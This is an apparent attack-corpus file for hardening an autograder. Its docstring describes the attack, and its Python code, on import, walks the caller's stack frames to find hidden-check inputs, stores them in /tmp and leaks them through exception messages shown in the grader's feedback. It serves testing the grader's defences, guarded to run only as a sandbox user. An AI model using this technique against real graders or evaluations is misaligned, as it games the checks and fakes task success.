"""Attack: learn the hidden checks' inputs through the result's headline (Gradescope's output, the feedback)

honest: 0
base: empty

main.py is imported afresh for each probe, once the probe is known: it finds the probe in a caller's frame,
keeps every input that looks drawn for a hidden check in /tmp (which lasts the submission's whole turn), and
raises an exception whose message holds every hidden input kept so far. Nothing passes, so the headline is a
"does not import" line built from an import failure. Hidden checks run after every visible test, and the
headline is built from the first import failure, which no hidden input can have reached. (A reviewer's attack,
2026-12-02: the headline was built from the last failure, and showed the hidden inputs of that run.)

Safety: this file attacks the grader. Grade it only with `alfred grade` (sandboxed); it refuses
to import anywhere but as a sandbox's student user (uid 40000-59999).
"""

# >>> ATTACK
import os as _attack_os

if not 40000 <= _attack_os.getuid() < 60000:  # safety catch: armed only as a sandbox's student user
    raise ImportError("attack corpus file: grade it with `alfred grade` (sandboxed); never import or run it directly")

import json as _attack_json
import sys as _attack_sys

_attack_probe, _attack_frame = None, _attack_sys._getframe()
while _attack_frame is not None:
    _attack_found = _attack_frame.f_locals.get("probe")
    if isinstance(_attack_found, dict) and "action" in _attack_found:
        _attack_probe = _attack_found
        break
    _attack_frame = _attack_frame.f_back
_attack_store = "/tmp/.seen"
if _attack_probe is not None:
    _attack_text = _attack_json.dumps({key: value for key, value in _attack_probe.items()
                                       if key in ("data", "args", "json", "path", "files")}, separators=(",", ":"))
    if " near " in _attack_text or any(c.isdigit() for c in _attack_text.split("@")[0][-3:]):  # drawn inputs
        with open(_attack_store, "a") as _attack_handle:
            _attack_handle.write(_attack_text + "\n")
_attack_seen = open(_attack_store).read().splitlines() if _attack_os.path.exists(_attack_store) else []
if _attack_seen:
    raise RuntimeError("LEAK: hidden inputs " + " | ".join(dict.fromkeys(_attack_seen)))
raise RuntimeError("no hidden input seen yet")
# <<< ATTACK
